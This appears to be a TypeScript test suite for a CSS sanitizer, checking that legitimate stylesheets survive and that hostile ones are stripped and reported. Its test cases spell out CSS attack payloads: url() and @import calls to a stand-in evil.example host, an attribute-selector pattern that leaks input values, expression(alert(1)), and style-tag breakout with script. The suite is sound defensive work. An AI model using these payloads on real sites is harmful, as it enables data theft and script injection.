import { expect, test } from 'vitest'
import { checkCssValue } from './check-css-value.ts'
import { sanitizeCss } from './write-css.ts'

const asked: string[] = []
function sanitize(source: string) {
  const refused: string[] = []
  asked.length = 0
  const css = sanitizeCss(source, {
    resolve: (url) => {
      asked.push(url)
      return url.includes('evil') ? { reason: 'elsewhere' } : { href: `own/${url}` }
    },
    refuse: (line, reason) => refused.push(`${line}: ${reason}`),
    isReservedFace: (family) => family === 'Inter Variable',
    renameProperty: (name) => (name === '--page' ? '--author-page' : name),
  })
  return { css, refused }
}

test('what an author writes stays what it was', () => {
  const { css, refused } = sanitize(`@charset "utf-8";
    /* Note */ .a:is(h2, [id^="x"]) > b::before { color: RED !important; margin: -1px auto; content: "\\201C \\A x"; }
    @media (width < 600px) and (min-width: calc(1px + 2em)) { .hover\\:x\\/2:hover { --deep: 1 2px #fff; } }
    .a { &:hover { color: blue } @media print { display: none } & + & { top: .5e3px } }
    @keyframes spin { from { rotate: 0deg } 100% { rotate: 1turn } }
    @layer x, y; @font-face { font-family: "My Face"; src: url(a.woff2) format("woff2"); unicode-range: U+0025-00FF, u+4?? }`)
  expect(refused).toEqual([])
  expect(css).toBe(
    '.a:is(h2, [id^="x"]) > b::before{color:RED!important;margin:-1px auto;content:"“\\a x";}' +
      '@media (width <  600px) and (min-width: calc(1px + 2em)){.hover\\:x\\/2:hover{--deep:1 2px #fff;}}' +
      '.a{&:hover{color:blue;}@media print{display:none;}& + &{top:.5e3px;}}' +
      '@keyframes spin{from{rotate:0deg;}100%{rotate:1turn;}}' +
      '@layer x, y;@font-face{font-family:"My Face";src:url("own/a.woff2") format("woff2");unicode-range:U+0025-00FF, u+4??;}',
  )
})

test.each([
  'a{background:url(https://evil.example/x)}',
  'a{background:url( "https://evil.example/x" )}',
  'a{background:URL("https://evil.example/x" cors(anonymous))}',
  'a{background:u\\72l(https://evil.example/x)}',
  'a{background:\\75\\72\\6c("https://evil.example/x")}',
  'a{background:image-set("https://evil.example/x" 1x)}',
  'a{background:-webkit-image-set(url(https://evil.example/x) 1x)}',
  'a{background:image-set(var(--x) 1x)}',
  'a{background:image-set(type(var(--x)) 1x)}',
  'a{background:image-set(attr(data-x) 1x)}',
  'a{background:src("https://evil.example/x")}',
  'a{background:src(var(--x))}',
  'a{background:image("https://evil.example/x")}',
  'a{--x:url(https://evil.example/x)}',
  'a{cursor:url(//evil.example/x),auto}',
  'a{content:cross-fade(url(evil), "evil")}',
  'input[value^="a"]{background:url(https://evil.example/a)}',
  '@font-face{font-family:x;src:url(https://evil.example/x)}',
  '@import "https://evil.example/x";',
  '@\\69mport url(https://evil.example/x);',
  '@namespace url(https://evil.example/x);',
  '@supports (background:url(https://evil.example/x)){a{b:c}}',
  '@document url(https://evil.example/x){a{b:c}}',
  '@function --f(){result:url(https://evil.example/x)}',
  '@view-transition{navigation:auto}',
  'a{behavior:url(evil)}',
  'a{width:expression(alert(1))}',
  'a{background:element(#x)}',
  '@font-face{font-family:"Inter Variable";src:url(blank.woff2)}',
  '@font-face{font-family:Inter  Variable;src:url(blank.woff2)}',
])('%s leaves nothing that loads or takes over, and is reported', (source) => {
  const { css, refused } = sanitize(`b{top:0}\n${source}`)
  expect(css).not.toMatch(/evil|import|blank|behavior|expression|element|property|transition|function/)
  expect(css).toContain('b{top:0;}')
  expect(refused.some((line) => line.startsWith('2: '))).toBe(true)
})

test.each([
  ['a{b:c}}}}@layer theme{x{y:z}}', 'a{b:c;}@layer theme{x{y:z;}}'],
  ['a{b:c', 'a{b:c;}'],
  ['a{b:rgb(1 } c{d:e} @layer x', ''],
  ['a{b:"c\n;d:e}', 'a{d:e;}'],
  ['a{b:ur/**/l(https://evil.example)}', 'a{b:ur/**/l(https://evil.example);}'],
  ['a{b:c)} d{e:f}', 'd{e:f;}'],
  ['<!-- a{b:c} -->', 'a{b:c;}'],
  ['a{b:</style><script>alert(1)</script>}', 'a{b:< /style>< script>alert(1)< /script>;}'],
  ['a{content:"</style>"}', 'a{content:"\\3c /style>";}'],
])('%j cannot close what is around it', (source, expected) => {
  expect(sanitize(source).css).toBe(expected)
})

test('a custom property that the theme has too gets another name', () => {
  const { css } = sanitize('@property --page{syntax:"*"}:root{--page:red;--pages:1}a{color:var(--\\70 age)}')
  expect(css).toBe(
    '@property --author-page{syntax:"*";}:root{--author-page:red;--pages:1;}a{color:var(--author-page);}',
  )
})

test('a sheet that is too deep or too long is left out whole', () => {
  expect(sanitize('a{'.repeat(40)).refused).toEqual(['1: It nests more than 32 deep.'])
  expect(sanitize('x'.repeat(1_000_001)).refused).toHaveLength(1)
})

test('reading takes no longer than the sheet is long', () => {
  const time = (size: number) => {
    const worst = ['(', '[{', '--a ', 'a:', '\\', '/*', 'url(', '"', '@a', '@media ', '-', '!', 'a{b:(', '#', '&{'].map(
      (part) => part.repeat(Math.ceil(size / part.length)),
    )
    const before = process.cpuUsage()
    for (const source of worst) sanitize(source)
    const { user } = process.cpuUsage(before)
    return user
  }
  time(10_000)
  const [small, large] = [time(10_000), time(160_000)]
  expect(large / small).toBeLessThan(80)
})

test('a value of one declaration is checked by the same rules', () => {
  expect(checkCssValue('url("#a") 1px')).toEqual({ css: 'url("#a") 1px' })
  expect(checkCssValue('linear-gradient(var(--x), red)')).toEqual({ css: 'linear-gradient(var(--x), red)' })
  for (const value of ['url(x.png)', 'red;color:blue', 'red}a{b:c', '@x', 'calc(1px', 'a\\\n']) {
    expect(checkCssValue(value), value).toHaveProperty('reason')
  }
})
